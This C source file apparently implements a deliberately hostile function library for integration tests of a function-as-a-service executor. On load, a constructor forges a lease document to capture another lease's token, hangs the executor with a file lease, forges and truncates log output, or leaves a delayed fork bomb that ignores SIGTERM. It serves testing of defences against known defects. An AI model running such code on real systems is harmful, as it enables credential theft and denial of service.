/*
 * attacker.c - a function library written by a hostile user
 * (faas_attacker.so), for tests/integration/attacks.sh. Its constructor
 * runs inside the lease's executor as the lease owner, before the executor
 * sends its lease document, and does what the file <library>.mode says
 * (the test writes it next to a copy of the library):
 *
 *   forge          line 2: another lease's document. Sends it on the
 *                  executor's channel (fd 0) as its own lease's document,
 *                  with its own lease id put in: a grant that would carry
 *                  the victim's token (issue 11 defect 2).
 *   block          line 2: a directory. Takes a write lease (F_SETLEASE)
 *                  on <dir>/<its lease id>.log, ignores SIGTERM and
 *                  sleeps, never letting the executor answer (defect 3).
 *   noise          writes a forged colocd log line to fds 1 and 2 and
 *                  truncates them (defect 5).
 *   bomb           leaves a fork bomb behind (it starts after 1 s),
 *                  ignoring SIGTERM, and lets the executor go on (defect 6).
 *
 * It serves one function, echo. The ABI is examples/functions/faas_function.h.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "faas_function.h"

faas_function_fn echo;

FAAS_FUNCTION_EXPORT const char *const faas_functions[] = {"echo", NULL};

FAAS_FUNCTION_EXPORT int echo(const void *in, size_t in_len, void *out, size_t out_cap,
			      size_t *out_len)
{
	if (in_len > out_cap)
		return 1;
	if (in_len)
		memmove(out, in, in_len);
	*out_len = in_len;
	return 0;
}

/* The value of --id in this process's arguments. */
static void own_id(char *id, size_t len)
{
	char buf[8192];
	int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;

	id[0] = '\0';
	if (fd >= 0)
		close(fd);
	for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t)strlen(buf + i) + 1) {
		buf[n] = '\0';
		if (strcmp(buf + i, "--id") == 0 && i + 5 < n) {
			snprintf(id, len, "%s", buf + i + 5);
			return;
		}
	}
}

static void forge(const char *doc)
{
	char id[128], out[65536];
	const char *p = strstr(doc, "\"id\":\""), *q;
	int n;

	own_id(id, sizeof(id));
	if (!p || !(q = strchr(p + 6, '"')))
		return;
	n = snprintf(out, sizeof(out), "%.*s\"id\":\"%s%s\n", (int)(p - doc), doc, id, q);
	if (n > 0 && n < (int)sizeof(out) && write(0, out, (size_t)n) != n)
		perror("attacker: forge");
}

static void block(const char *dir)
{
	char id[128], path[4300];
	int fd;

	own_id(id, sizeof(id));
	snprintf(path, sizeof(path), "%s/%s.log", dir, id);
	fd = open(path, O_RDONLY | O_NOFOLLOW);
	if (fd >= 0 && fcntl(fd, F_SETLEASE, F_WRLCK) != 0)
		perror("attacker: F_SETLEASE");
	signal(SIGTERM, SIG_IGN);
	fprintf(stderr, "attacker: blocking\n");
	for (;;)
		pause();
}

static void noise(void)
{
	static const char line[] = "colocd: error: FORGED-BY-A-FUNCTION-LIBRARY\n";

	for (int fd = 1; fd <= 2; fd++) {
		if (ftruncate(fd, 0) == 0)
			fprintf(stderr, "attacker: truncated fd %d\n", fd);
		if (write(fd, line, sizeof(line) - 1) < 0)
			perror("attacker: write");
	}
}

static void bomb(void)
{
	if (fork() != 0)
		return;
	signal(SIGTERM, SIG_IGN);
	setsid();
	sleep(1); /* the executor starts its workers and answers first */
	for (;;)
		if (fork() < 0)
			for (volatile unsigned long i = 0; i < 1000000; i++)
				;
}

__attribute__((constructor)) static void attack(void)
{
	char path[4200], mode[70000] = "", *arg;
	Dl_info info;
	FILE *f;
	size_t n;

	if (!dladdr((void *)attack, &info) || !info.dli_fname)
		return;
	snprintf(path, sizeof(path), "%s.mode", info.dli_fname);
	f = fopen(path, "re");
	if (!f)
		return;
	n = fread(mode, 1, sizeof(mode) - 1, f);
	fclose(f);
	mode[n] = '\0';
	arg = strchr(mode, '\n');
	if (arg) {
		*arg++ = '\0';
		arg[strcspn(arg, "\n")] = '\0';
	}
	if (strcmp(mode, "forge") == 0 && arg)
		forge(arg);
	else if (strcmp(mode, "block") == 0 && arg)
		block(arg);
	else if (strcmp(mode, "noise") == 0)
		noise();
	else if (strcmp(mode, "bomb") == 0)
		bomb();
}
